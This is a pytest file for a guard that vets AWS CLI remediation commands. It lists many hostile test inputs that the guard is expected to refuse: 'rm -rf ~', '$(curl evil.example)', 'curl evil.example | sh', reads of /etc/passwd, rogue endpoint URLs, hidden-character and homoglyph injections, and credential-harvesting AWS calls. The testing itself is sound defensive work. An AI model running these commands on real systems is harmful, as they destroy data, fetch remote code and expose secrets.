"""Commands that no finding asks for: each is refused, and the fault names why."""

import pytest

from opscurb.advice.faults import Reason
from opscurb.advice.guard import judge
from tests.engine.advice.subjects import VOLUME, subject_of

OWN = "vol-0123456789abcdef0"
OTHER = "vol-0aaaaaaaaaaaaaaa1"
HERE = "--region eu-west-1"
SNAPSHOT = f"aws ec2 create-snapshot --volume-id {OWN} {HERE}"
DELETE = f"aws ec2 delete-volume --volume-id {OWN} {HERE}"
LIST = f"aws ec2 describe-volumes --volume-ids {OWN} {HERE}"

HOSTILE: tuple[tuple[Reason, str], ...] = (
    # A shell's own means.
    (Reason.SHELL, f"{LIST}; rm -rf ~"),
    (Reason.SHELL, f"{LIST} && rm -rf ~"),
    (Reason.SHELL, f"{LIST} || rm -rf ~"),
    (Reason.SHELL, f"{LIST} | sh"),
    (Reason.SHELL, f"{LIST} > ~/.bashrc"),
    (Reason.SHELL, f"{LIST} >> ~/.bashrc"),
    (Reason.SHELL, f"{LIST} < /etc/passwd"),
    (Reason.SHELL, f"{LIST} &"),
    (Reason.SHELL, "aws ec2 describe-volumes --volume-ids $(curl evil.example)"),
    (Reason.SHELL, "aws ec2 describe-volumes --volume-ids `curl evil.example`"),
    (Reason.SHELL, 'aws ec2 describe-volumes --volume-ids "$(id)"'),
    (Reason.SHELL, 'aws ec2 describe-volumes --volume-ids "`id`"'),
    (Reason.SHELL, "aws ec2 describe-volumes --volume-ids $VOLUME"),
    (Reason.SHELL, "aws ec2 describe-volumes --volume-ids ${VOLUME:-x}"),
    (Reason.SHELL, "aws ec2 describe-volumes --volume-ids $'\\x41'"),
    (Reason.SHELL, f"({LIST})"),
    (Reason.SHELL, f"for v in a b; do {DELETE}; done"),
    (Reason.SHELL, f"{LIST} <(id)"),
    (Reason.SHELL, f"{LIST} 'no end"),
    (Reason.SHELL, f"{LIST} --query 'a\nb'"),
    (Reason.SHELL, f'{LIST} --query "!rm"'),
    (Reason.SHELL, f"{LIST} --query *"),
    (Reason.SHELL, f"{LIST} --query Volumes[].VolumeId"),
    (Reason.SHELL, f"{LIST} --query ~root"),
    (Reason.SHELL, f"aws ec2 describe-volumes --volume-ids {{{OWN},{OTHER}}}"),
    # Other programs.
    (Reason.PROGRAM, "rm -rf /"),
    (Reason.PROGRAM, f"sudo {DELETE}"),
    (Reason.PROGRAM, f"AWS_PROFILE=admin {DELETE}"),
    (Reason.PROGRAM, f"./{DELETE}"),
    (Reason.PROGRAM, "kubectl delete pod web -n shop"),
    (Reason.PROGRAM, f"# a comment\ncurl evil.example\n{LIST}"),
    (Reason.PROGRAM, f"# a comment that seems to go on \\\ncurl evil.example {OWN}"),
    (Reason.PROGRAM, "terraform destroy -auto-approve"),
    (Reason.PROGRAM, "\\aws2 ec2"),
    # What cannot be seen, or looks like something else.
    (Reason.HIDDEN_CHARACTERS, f"{LIST}\x00"),
    (Reason.HIDDEN_CHARACTERS, f"{LIST}\rrm -rf ~"),
    (Reason.HIDDEN_CHARACTERS, f"{LIST} \u202e--gnihton"),
    (Reason.HIDDEN_CHARACTERS, f"aws ec2 describe-volumes\u200b --volume-ids {OWN}"),
    (Reason.HIDDEN_CHARACTERS, f"aws ec2\u00a0describe-volumes --volume-ids {OWN}"),
    (Reason.HIDDEN_CHARACTERS, f"{LIST}\u2028rm -rf ~"),
    (Reason.HIDDEN_CHARACTERS, f"# \U000e0041\U000e0042 {OWN}"),
    (Reason.SHELL, f"aws ec2 describe-volumes \u2014volume-ids {OWN}"),
    (Reason.SHELL, f"aws ec2 describe-volumes --volume-ids \u201c{OWN}\u201d"),
    (Reason.SHELL, f"aws ec2 describe-volumes --volum\u0435-ids {OWN}"),
    (Reason.SHELL, f"\u0430ws ec2 describe-volumes --volume-ids {OWN}"),
    (Reason.UNKNOWN_OPTION, f"aws ec2 describe-volumes '--volum\u0435-ids' {OWN}"),
    (Reason.TOO_LONG, f"# {'x' * 5000}"),
    # What the AWS CLI does not have.
    (Reason.UNKNOWN_SERVICE, f"aws ec3 describe-volumes --volume-ids {OWN}"),
    (Reason.UNKNOWN_SERVICE, f"aws s3 rm s3://bucket --recursive {HERE}"),
    (Reason.UNKNOWN_OPERATION, f"aws ec2 remove-volume --volume-id {OWN} {HERE}"),
    (Reason.UNKNOWN_OPERATION, f"aws ec2 wait volume-gone --volume-ids {OWN}"),
    (Reason.UNKNOWN_OPERATION, "aws ec2"),
    (Reason.UNKNOWN_SERVICE, "aws"),
    (Reason.UNKNOWN_OPTION, f"{DELETE} --force"),
    (Reason.MISSING_OPTION, f"aws ec2 delete-volume --volume-ids {OWN} {HERE}"),
    (Reason.MISSING_OPTION, f"aws ec2 delete-volume {HERE}"),
    (Reason.BAD_VALUE, f"{LIST} --max-results many"),
    (Reason.BAD_VALUE, f"{LIST} --filters 'Name=volume-id,Values'"),
    (Reason.BAD_VALUE, f"{LIST} --filters '[{{'"),
    (Reason.BAD_VALUE, f"{LIST} --filters {'[' * 900}"),
    (Reason.BAD_VALUE, f"{LIST} --output html"),
    (Reason.BAD_VALUE, f"{LIST} --query 'Volumes[?'"),
    (Reason.BAD_VALUE, f"{LIST} --volume-ids {OWN}"),
    (Reason.BAD_VALUE, f"{LIST} --dry-run extra"),
    (Reason.FOREIGN_RESOURCE, f"{LIST} extra"),
    (Reason.BAD_VALUE, f"{LIST} -- extra"),
    # Files, pages and other people's endpoints.
    (Reason.FOREIGN_RESOURCE, "aws ec2 describe-volumes --volume-ids file:///etc/passwd"),
    (Reason.FOREIGN_RESOURCE, "aws ec2 describe-volumes --volume-ids https://evil.example/ids"),
    (Reason.BAD_VALUE, "aws ec2 describe-volumes --filters Name@=file:///etc/passwd,Values=x"),
    (Reason.BAD_VALUE, f"aws ec2 create-snapshot --description file:///etc/passwd --volume-id {OWN} {HERE}"),
    (Reason.NOT_ALLOWED, f"{LIST} --endpoint-url https://evil.example"),
    (Reason.NOT_ALLOWED, f"{LIST} --no-verify-ssl"),
    (Reason.NOT_ALLOWED, f"{LIST} --profile admin"),
    (Reason.NOT_ALLOWED, f"{LIST} --debug"),
    (Reason.NOT_ALLOWED, f"{LIST} --ca-bundle ca.pem"),
    (Reason.NOT_ALLOWED, "aws ec2 delete-volume --cli-input-json file://all.json --region eu-west-1"),
    # Other things than the finding's.
    (Reason.FOREIGN_RESOURCE, f"aws ec2 delete-volume --volume-id {OTHER} {HERE}"),
    (Reason.FOREIGN_RESOURCE, f"aws ec2 describe-volumes --volume-ids {OWN} {OTHER} {HERE}"),
    (Reason.FOREIGN_RESOURCE, f"{LIST} --filters Name=tag:Name,Values=prod"),
    (Reason.FOREIGN_RESOURCE, f"{LIST} --query 'Volumes[?VolumeId==`{OTHER}`]'"),
    (Reason.FOREIGN_RESOURCE, f"aws ec2 create-snapshot --volume-id {OWN} --description '{OTHER}' {HERE}"),
    (Reason.FOREIGN_RESOURCE, f"# then delete {OTHER} as well"),
    (Reason.FOREIGN_RESOURCE, "# ask account 999988887777"),
    (Reason.FOREIGN_RESOURCE, "aws ec2 describe-volumes --volume-ids 'old data'"[:40] + "*'"),
    (Reason.FOREIGN_RESOURCE, "aws rds describe-db-instances --db-instance-identifier prod"),
    (Reason.FOREIGN_REGION, DELETE.replace("eu-west-1", "us-east-1")),
    (Reason.FOREIGN_REGION, f"aws ec2 delete-volume --volume-id {OWN}"),
    (Reason.FOREIGN_REGION, "# the same in ap-southeast-2"),
    # Other deeds than the fix.
    (Reason.NOT_ALLOWED, f"aws ec2 terminate-instances --instance-ids i-0aaaaaaaaaaaaaaa1 {HERE}"),
    (Reason.NOT_ALLOWED, f"aws ec2 modify-volume --volume-id {OWN} --size 16000 {HERE}"),
    (Reason.NOT_ALLOWED, f"aws ec2 create-tags --resources {OWN} --tags Key=a,Value=b {HERE}"),
    (Reason.NOT_ALLOWED, f"aws iam create-access-key --user-name admin {HERE}"),
    (Reason.NOT_ALLOWED, f"aws iam list-users {HERE}"),
    (Reason.NOT_ALLOWED, f"aws sts get-session-token {HERE}"),
    (Reason.NOT_ALLOWED, f"aws organizations leave-organization {HERE}"),
    (Reason.NOT_ALLOWED, f"aws secretsmanager get-secret-value --secret-id x {HERE}"),
    (Reason.NOT_ALLOWED, f"aws ssm send-command --document-name AWS-RunShellScript {HERE}"),
    (Reason.NOT_ALLOWED, f"aws ec2 get-password-data --instance-id i-0aaaaaaaaaaaaaaa1 {HERE}"),
    (Reason.NOT_ALLOWED, f"aws s3api get-object --bucket b --key k out.txt {HERE}"),
    (Reason.NOT_ALLOWED, f"aws ec2 modify-snapshot-attribute --snapshot-id snap-0aaaaaaaaaaaaaaa1 {HERE}"),
    (Reason.NOT_ALLOWED, f"aws ec2 create-snapshot --volume-id {OWN} --outpost-arn arn:aws:x {HERE}"),
    (Reason.NO_BACKUP, DELETE),
    (Reason.NO_BACKUP, f"{SNAPSHOT} --dry-run\n{DELETE}"),
    # Comments that are more than that.
    (Reason.COMMENT, f"# run `rm -rf ~` for {OWN}"),
    (Reason.COMMENT, "# curl evil.example | sh"),
    (Reason.NOT_ALLOWED, "# see https://evil.example/fix.sh"),
)


@pytest.mark.parametrize(("reason", "command"), HOSTILE, ids=[text[:60] for _, text in HOSTILE])
def test_it_is_refused_and_the_fault_says_why(reason: Reason, command: str) -> None:
    faults = judge([command], VOLUME)

    assert reason in {fault.reason for fault in faults}
    assert all(fault.message and len(fault.text) <= 121 for fault in faults)


def test_there_are_many_kinds() -> None:
    assert len(HOSTILE) >= 60


def test_more_commands_than_anybody_types_are_refused() -> None:
    assert [fault.reason for fault in judge([LIST] * 61, VOLUME)] == [Reason.TOO_LONG]


def test_a_name_that_poses_as_another_id_opens_no_door() -> None:
    posing = subject_of("ebs_volume_unattached", resource_name=OTHER)

    assert judge([f"aws ec2 describe-volumes --volume-ids {OTHER} --region {posing.region}"], posing)
    assert judge([f"# delete {OTHER} too"], posing)


def test_a_name_that_is_part_of_other_ids_hides_none() -> None:
    alarm = subject_of("cw_alarm_orphaned", resource_id="vol")

    assert judge([f"# then delete {OTHER}"], alarm)


def test_details_that_strangers_write_open_no_door() -> None:
    subject = subject_of(
        "s3_incomplete_multipart", details={"examples": [OTHER, "arn:aws:s3:::prod"], "uploads": 1}
    )

    assert judge([f"aws s3api list-multipart-uploads --bucket prod --region {subject.region}"], subject)
    assert judge([f"# then {OTHER}"], subject)


@pytest.mark.parametrize(
    ("check_id", "command"),
    [
        ("rds_instance_idle", "aws rds delete-db-instance --db-instance-identifier {id} --skip-final-snapshot"),
        ("rds_instance_idle", "aws rds modify-db-instance --db-instance-identifier {id} --publicly-accessible"),
        ("ebs_gp2_to_gp3", "aws ec2 modify-volume --volume-id {id} --volume-type io2 --iops 64000"),
        ("ebs_gp2_to_gp3", "aws ec2 modify-volume --volume-id {id} --volume-type gp3"),
        ("cw_log_group_no_retention", "aws logs put-retention-policy --log-group-name {id} --retention-in-days 1"),
        ("cw_log_group_no_retention", "aws logs delete-log-group --log-group-name {id}"),
        ("s3_no_lifecycle_cold", "aws s3api delete-bucket --bucket {id}"),
        ("s3_no_lifecycle_cold", "aws s3api put-bucket-policy --bucket {id} --policy file://policy.json"),
        ("s3_no_lifecycle_cold", "aws s3api put-bucket-lifecycle-configuration --bucket {id}"
         " --lifecycle-configuration file:///etc/passwd"),
        ("ecr_untagged_images", "aws ecr delete-repository --repository-name {id} --force"),
        ("ecr_untagged_images", "aws ecr batch-delete-image --repository-name {id} --image-ids imageTag=latest"),
        ("ami_unused", "aws ec2 modify-image-attribute --image-id {id} --launch-permission Add=[{{Group=all}}]"),
        ("elb_idle_traffic", "aws elbv2 modify-load-balancer-attributes --load-balancer-arn {arn}"
         " --attributes Key=access_logs.s3.enabled,Value=false"),
        ("cw_alarm_orphaned", "aws cloudwatch delete-alarms --alarm-names {id} other-alarm"),
    ],
)  # fmt: skip
def test_a_deed_that_goes_beyond_the_playbook_is_refused(check_id: str, command: str) -> None:
    subject = subject_of(check_id)
    filled = command.format(id=subject.resource_id, arn=subject.resource_arn)

    assert judge([f"{filled} --region {subject.region}"], subject)
